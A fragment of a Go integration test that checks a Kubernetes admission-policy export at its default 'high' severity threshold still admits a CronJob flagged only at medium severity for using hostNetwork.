	// The default export (high and above, no config) must be accepted and type-check cleanly too.
	e, err := Build(Options{Version: "test", Name: "jobguard-default"})
	if err != nil {
		t.Fatal(err)
	}
	ev := apply(t, c, e, "default", true)
	ns := ev.namespace(t, "vap-default", "default")
	ev.waitEffective(t, ns)
	err = ev.create(ns, workloadObject(t, "CronJob", "x", variant{name: "medium", podSpec: "hostNetwork: true\n" + container("")}), false)
	if err != nil {
		t.Errorf("the default export (high) refused a medium finding (hostNetwork): %v", err)
	}
}
